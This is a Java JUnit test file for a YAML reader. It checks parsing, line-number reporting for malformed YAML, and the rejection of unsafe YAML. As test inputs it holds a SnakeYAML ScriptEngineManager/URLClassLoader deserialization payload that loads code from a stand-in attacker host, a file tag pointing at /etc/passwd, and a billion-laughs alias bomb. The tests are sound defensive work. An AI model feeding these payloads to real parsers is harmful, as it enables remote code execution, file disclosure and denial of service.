package dev.bscportal.core.load;

import dev.bscportal.core.problem.Problem;
import dev.bscportal.core.problem.ProblemCode;
import dev.bscportal.core.problem.SourcePosition;

import org.junit.jupiter.api.Test;
import org.yaml.snakeyaml.nodes.MappingNode;
import org.yaml.snakeyaml.nodes.Node;

import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

class YamlReaderTest {

    private final List<Problem> problems = new ArrayList<>();
    private final YamlReader reader = new YamlReader(LoadLimits.DEFAULTS);

    private Optional<Node> parse(String yaml) {
        return reader.parse(yaml, "m.yaml", 0, problems::add);
    }

    private List<String> lines() {
        return ProblemLines.of(problems);
    }

    @Test
    void composesPlainYamlIntoNodesThatKnowTheirLines() {
        Optional<Node> root = parse("name: Revenue\n\ntarget: 10\n");

        MappingNode map = assertInstanceOf(MappingNode.class, root.orElseThrow());
        assertEquals(3, map.getValue().get(1).getKeyNode().getStartMark().getLine() + 1);
        assertTrue(problems.isEmpty());
    }

    @Test
    void returnsNothingAndReportsNothingForAnEmptyText() {
        assertTrue(parse("").isEmpty());
        assertTrue(problems.isEmpty());
    }

    @Test
    void reportsTabIndentationAsMalformedAtItsLine() {
        parse("name: A\nlist:\n\t- x\n");

        assertEquals(List.of("BSC001 m.yaml:3"), lines());
    }

    @Test
    void reportsAnUnclosedQuoteAtTheLineWhereTheQuoteOpens() {
        parse("unit: EUR\nname: \"Revenue\ntarget: 10\n");

        assertEquals(List.of("BSC001 m.yaml:2"), lines());
    }

    @Test
    void addsTheLineOffsetOfFrontMatterToReportedLines() {
        reader.parse("name: A\nbad: [x\ny: 1\n", "o.md", FrontMatter.YAML_LINE_OFFSET, problems::add);

        assertEquals(List.of("BSC001 o.md:3"), lines(), "the unclosed bracket opens on file line 3 (YAML line 2 + front matter offset)");
    }

    @Test
    void refusesAScriptEngineManagerTagAsUnsafe() {
        Optional<Node> root = parse("name: x\nevil: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                + "[[!!java.net.URL [\"http://attacker.example/\"]]]]\n");

        assertTrue(root.isEmpty());
        assertEquals(List.of("BSC010 m.yaml:2"), lines());
    }

    @Test
    void refusesAJavaFileTagAsUnsafe() {
        parse("formula: !!java.io.File /etc/passwd\n");

        assertEquals(List.of("BSC010 m.yaml:1"), lines());
    }

    @Test
    void refusesBinaryAndLocalTags() {
        parse("a: !!binary aGVsbG8=\n");
        parse("b: !local x\n");

        assertEquals(List.of(ProblemCode.UNSAFE_YAML, ProblemCode.UNSAFE_YAML), problems.stream().map(Problem::code).toList());
    }

    @Test
    void refusesAMergeKeyAtItsLine() {
        parse("base: &b\n  unit: EUR\nname: x\n<<: *b\n");

        assertEquals(List.of("BSC010 m.yaml:4"), lines());
    }

    @Test
    void refusesABillionLaughsAliasBombWithoutExpandingIt() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int i = 1; i <= 30; i++) {
            yaml.append("a").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 10; j++) {
                yaml.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
            }
            yaml.append("]\n");
        }

        Optional<Node> root = parse(yaml.toString());

        assertTrue(root.isEmpty());
        assertEquals(List.of(ProblemCode.UNSAFE_YAML), problems.stream().map(Problem::code).toList());
    }

    @Test
    void acceptsAFewAliasesBelowTheLimit() {
        Optional<Node> root = parse("a: &x [1, 2]\nb: *x\nc: *x\n");

        assertTrue(root.isPresent());
        assertTrue(problems.isEmpty());
    }

    @Test
    void refusesNestingDeeperThanTheLimit() {
        parse("a: " + "[".repeat(200) + "]".repeat(200) + "\n");

        assertEquals(List.of(ProblemCode.UNSAFE_YAML), problems.stream().map(Problem::code).toList());
    }

    @Test
    void composesASelfReferencingListWithoutExpandingIt() {
        // when a list contains itself through an alias
        Optional<Node> root = parse("a: &x [1, *x]\n");

        // then it is composed once (no endless expansion, no problem); the typed readers refuse a list where they
        // expect a value
        MappingNode map = assertInstanceOf(MappingNode.class, root.orElseThrow());
        org.yaml.snakeyaml.nodes.SequenceNode list =
                assertInstanceOf(org.yaml.snakeyaml.nodes.SequenceNode.class, map.getValue().get(0).getValueNode());
        assertTrue(list.getValue().get(1) == list, "the alias is the list itself");
        assertEquals(List.of(), lines());
    }

    @Test
    void positionIsTheOneBasedLinePlusOffset() {
        Node root = parse("\n\nname: x\n").orElseThrow();

        assertEquals(SourcePosition.of("f", 4), YamlReader.position(root, "f", 1));
    }
}
